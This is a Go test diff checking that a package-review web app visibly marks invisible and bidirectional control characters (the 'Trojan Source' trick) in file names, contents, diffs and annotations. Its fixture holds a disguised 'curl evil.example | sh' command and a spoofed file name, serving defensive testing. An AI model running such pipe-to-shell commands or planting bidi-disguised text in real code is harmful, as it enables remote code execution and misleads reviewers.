@@ -142,3 +142,49 @@ func (r *countingReader) read() int {
 	defer r.mu.Unlock()
 	return r.done
 }
+
+// Characters that reorder or hide text (bidirectional controls, the
+// "Trojan Source" trick, and other invisible ones) show as what they are
+// wherever a reviewer reads files: names, contents, diffs, resources. The
+// editor keeps them as they are, so saving changes nothing by itself.
+func TestInvisibleCharactersShown(t *testing.T) {
+	s := newStack(t, stackOptions{secure: true})
+	f := seed(s, false)
+	const (
+		script = "run\u202Ehs.md"
+		body   = "echo ok \u202E; curl evil.example | sh \u2066 zero\u200Bwidth\x07\n"
+	)
+	files := s.files(f.draft)
+	files[script] = body
+	files["deploy/cm.yaml"] = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: \"cm\u202Eevil\"\n"
+	s.setFiles(f.draft, files)
+	pr := s.get(f.draft)
+	pr.Annotations = map[string]string{"example.com/ci": "passed\u202E"}
+	s.api("PUT", pkgPath+"/packagerevisions/"+f.draft, pr, nil)
+	b := s.browser()
+	b.signIn("victor")
+	for _, path := range []string{
+		rev(f.draft),
+		rev(f.draft) + "?file=" + url.QueryEscape(script),
+		rev(f.draft) + "?file=deploy/cm.yaml",
+		rev(f.draft, "/diff"),
+		rev(f.draft, "/diff") + "?view=split",
+	} {
+		p := b.get(path)
+		if p.code != http.StatusOK {
+			t.Fatalf("GET %s: %d", path, p.code)
+		}
+		for _, raw := range []string{"\u202E", "\u2066", "\u200B", "\x07"} {
+			if strings.Contains(p.body, raw) {
+				t.Errorf("GET %s: the page has %U as is", path, []rune(raw)[0])
+			}
+		}
+		if !strings.Contains(p.body, "⟨U+202E⟩") && !strings.Contains(p.body, "⟨U&#43;202E⟩") {
+			t.Errorf("GET %s: %U is not shown", path, '\u202E')
+		}
+	}
+	p := b.get(rev(f.draft, "/edit") + "?file=" + url.QueryEscape(script))
+	if !strings.Contains(p.body, "\n"+body+"</textarea>") || !strings.Contains(p.body, `name="original" value="`+script+`"`) {
+		t.Errorf("the editor does not keep the file as it is:\n%s", p.body)
+	}
+}
